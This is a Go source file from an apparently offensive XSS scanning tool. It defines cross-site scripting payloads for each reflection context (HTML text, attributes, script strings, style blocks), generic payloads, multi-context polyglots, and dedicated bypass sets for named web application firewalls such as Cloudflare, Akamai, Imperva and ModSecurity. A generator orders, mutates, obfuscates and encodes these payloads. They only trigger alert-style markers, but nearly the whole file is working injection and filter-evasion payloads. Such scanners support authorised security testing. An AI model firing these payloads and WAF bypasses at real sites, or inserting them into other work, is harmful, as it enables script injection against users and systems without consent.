package payloads

import (
	"bufio"
	"fmt"
	"os"
	"strings"

	"github.com/Serdar715/xssctx/internal/xsscontext"
)

// Script seeds adapted to each reflected context by the Mutator.
var scriptSeeds = []string{
	"alert(1)",
	"confirm(1)",
	"<svg onload=alert(1)>",
	"<img src=x onerror=alert(1)>",
}

// contextPayloads are hand-written breakouts per context name, tried before
// the adapted seeds.
var contextPayloads = map[string][]string{
	xsscontext.Tag: {
		"svg/onload=alert(1)//",
		"img src=x onerror=alert(1)//",
	},
	xsscontext.HTMLText: {
		"<script>alert(1)</script>",
		"<details open ontoggle=alert(1)>",
		"</tag><svg onload=alert(1)>",
	},
	xsscontext.HTMLComment: {
		"--><script>alert(1)</script><!--",
		"--!><svg onload=alert(1)>",
	},
	xsscontext.AttrName: {
		"onmouseover=alert(1)",
		"autofocus onfocus=alert(1) x",
		"><svg onload=alert(1)>",
	},
	xsscontext.AttrSingleQuote: {
		"' onmouseover=alert(1) '",
		"' autofocus onfocus='alert(1)",
		"'><img src=x onerror=alert(1)>",
	},
	xsscontext.AttrDoubleQuote: {
		"\" onmouseover=alert(1) \"",
		"\"autofocus/onfocus=\"alert(1)",
		"\"><svg onload=alert(1)><b attr=\"",
	},
	xsscontext.ScriptMultiComment: {
		"*/alert(1)/*",
		"*/</script><svg onload=alert(1)>",
	},
	xsscontext.ScriptLineComment: {
		"\nalert(1)//",
		" alert(1)//",
		"</script><svg onload=alert(1)>",
	},
	xsscontext.ScriptSingleQuote: {
		"'-alert(1)-'",
		"'-alert(1)//",
		"'}alert(1);{'",
		"</script><svg onload=alert(1)>",
	},
	xsscontext.ScriptDoubleQuote: {
		"\"-alert(1)-\"",
		"\"-alert(1)//",
		"\"}alert(1);{\"",
		"</script><svg onload=alert(1)>",
	},
	xsscontext.ScriptText: {
		"alert(1)",
		"-alert(1)-",
		"</script><svg onload=alert(1)>",
	},
	xsscontext.StyleText: {
		"</style><svg onload=alert(1)>",
		"}</style><script>alert(1)</script>",
	},
	xsscontext.StyleComment: {
		"*/</style><svg onload=alert(1)>",
	},
	xsscontext.StyleSingleQuote: {
		"'</style><svg onload=alert(1)>",
	},
	xsscontext.StyleDoubleQuote: {
		"\"</style><svg onload=alert(1)>",
	},
}

// genericPayloads are tried for every injection point.
var genericPayloads = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<body onload=alert(1)>`,
	`<input onfocus=alert(1) autofocus>`,
	`<iframe src="javascript:alert(1)">`,
	`<details open ontoggle=alert(1)>`,
	`<video src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`" onfocus=alert(1) autofocus "`,
	`' onfocus=alert(1) autofocus '`,
	`</script><svg onload=alert(1)>`,
	`'-alert(1)-'`,
	`"-alert(1)-"`,
}

// polyglotPayloads break out of most contexts at once; smart mode only.
var polyglotPayloads = []string{
	`jaVasCript:/*-/*'/*\"/*'/*"/*` + "`" + `/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert()//>`,
	`javascript://%250Aalert(1)//"/*\'/*"/*\'/*</title></style></textarea></script>--><p" onclick=alert()//>*/alert()/*`,
	`'"--></style></script><svg onload=alert(1)>`,
	`*/</script>'"--><svg onload=alert(1)>`,
}

// wafPayloads are bypasses per fingerprinted WAF.
var wafPayloads = map[string][]string{
	"cloudflare": {
		`<svg/onload=&#97&#108&#101&#114&#116(1)>`,
		`<svg onload=eval(atob('YWxlcnQoMSk='))>`,
		`<svg><animate onbegin=alert(1) attributeName=x>`,
		"<svg onload=alert`1`>",
		`<Svg Only=1 OnLoad=confirm(atob("Q2xvdWRmbGFyZQ=="))>`,
		`<a"/onclick=(confirm)(origin)>Click Here!`,
	},
	"akamai": {
		`<svg/onload=prompt(1)>`,
		`<marquee/onstart=alert(1)>`,
		`<form><button formaction=javascript:alert(1)>X</button>`,
		`<x onclick=alert(1)>click</x>`,
		`<object data="data:text/html,<script>alert(1)</script>">`,
	},
	"cloudfront": {
		`<img src=x onerror=alert(String.fromCharCode(88,83,83))>`,
		`<svg onload=top[/al/.source+/ert/.source](1)>`,
		`<script>(1,eval)('alert(1)')</script>`,
	},
	"imperva": {
		`<svg onload=alert(1)//>`,
		`<script>/**/alert(1)/**/</script>`,
		`<script>Function("ale"+"rt(1)")();</script>`,
		`<form action=javascript:alert(1)><input type=submit>`,
	},
	"wordfence": {
		`<script>al	ert(1)</script>`,
		`[caption]<script>alert(1)</script>[/caption]`,
		`<svg/onload=confirm(1)>`,
	},
	"modsecurity": {
		`<script>alert(0x1)</script>`,
		`<img src=x onerror=eval(atob('YWxlcnQoMSk='))>`,
		`<script>eval('al'+'ert(1)')</script>`,
	},
	"sucuri": {
		`<ScRiPt>alert(1)</ScRiPt>`,
		`<img	src=x	onerror=alert(1)>`,
		`<svg onLoad=alert(1)>`,
	},
	"f5": {
		`<script>alert(1)</script>`,
		`<meta http-equiv="Set-Cookie" content="x=<script>alert(1)</script>">`,
	},
	"barracuda": {
		`<svg onload=alert&#40;1&#41;>`,
		`<img src=x onerror=top['al'+'ert'](1)>`,
	},
}

// Number of generic payloads that get obfuscated and encoded variants.
const variantBase = 8

// Generator builds candidate payload lists for injection points
type Generator struct {
	smartMode  bool
	mutator    *Mutator
	encoder    *Encoder
	obfuscator *Obfuscator
}

// NewGenerator creates a new payload generator
func NewGenerator(smartMode bool) *Generator {
	return &Generator{
		smartMode:  smartMode,
		mutator:    NewMutator(),
		encoder:    NewEncoder(),
		obfuscator: NewObfuscator(),
	}
}

// ForContexts returns ordered, deduplicated candidates for a point whose
// marker was reflected in the named contexts: context breakouts first,
// then the generic set, then WAF bypasses and variants.
func (g *Generator) ForContexts(names []string, wafType string) []string {
	var out []string
	for _, name := range names {
		if _, ok := breakouts[name]; !ok {
			continue
		}
		out = append(out, contextPayloads[name]...)
		for _, seed := range scriptSeeds {
			out = append(out, g.mutator.Adapt(seed, name))
		}
	}

	out = append(out, genericPayloads...)
	if g.smartMode {
		out = append(out, polyglotPayloads...)
	}

	if waf := normalizeWAF(wafType); waf != "" {
		out = append(out, g.wafBypasses(waf)...)
		if g.smartMode {
			for _, p := range genericPayloads[:variantBase] {
				out = append(out, g.obfuscator.Variants(p)...)
				out = append(out, g.encoder.Variants(p)...)
			}
		}
	}

	return deduplicate(out)
}

// Probes returns the classic breakout probes for token: each ends in the
// character that closes one family of contexts.
func Probes(token string) []string {
	return []string{
		token + "</->",
		token + "/*",
		token + "\"",
		token + "'",
	}
}

// SimpleProbe concatenates the probes into a single request.
func SimpleProbe(token string) string {
	return strings.Join(Probes(token), "")
}

// LoadFromFile loads payloads from a custom file, skipping blank lines and
// # comments
func (g *Generator) LoadFromFile(path string) ([]string, error) {
	file, err := os.Open(path)
	if err != nil {
		return nil, fmt.Errorf("failed to open payload file: %w", err)
	}
	defer file.Close()

	var payloads []string
	scanner := bufio.NewScanner(file)
	for scanner.Scan() {
		line := strings.TrimSpace(scanner.Text())
		if line != "" && !strings.HasPrefix(line, "#") {
			payloads = append(payloads, line)
		}
	}
	if err := scanner.Err(); err != nil {
		return nil, fmt.Errorf("failed to read payload file: %w", err)
	}
	return deduplicate(payloads), nil
}

// wafBypasses returns the set for waf, or every set for an unidentified one.
func (g *Generator) wafBypasses(waf string) []string {
	if set, ok := wafPayloads[waf]; ok {
		return set
	}
	var all []string
	for _, name := range KnownWAFs() {
		all = append(all, wafPayloads[name]...)
	}
	return all
}

// KnownWAFs lists the WAF names with a dedicated bypass set, sorted.
func KnownWAFs() []string {
	return []string{"akamai", "barracuda", "cloudflare", "cloudfront", "f5", "imperva", "modsecurity", "sucuri", "wordfence"}
}

func normalizeWAF(wafType string) string {
	switch w := strings.ToLower(strings.TrimSpace(wafType)); w {
	case "", "none", "auto":
		return ""
	case "incapsula":
		return "imperva"
	case "aws-waf":
		return "cloudfront"
	default:
		return w
	}
}

func deduplicate(payloads []string) []string {
	seen := make(map[string]bool, len(payloads))
	out := make([]string, 0, len(payloads))
	for _, p := range payloads {
		if p == "" || seen[p] {
			continue
		}
		seen[p] = true
		out = append(out, p)
	}
	return out
}
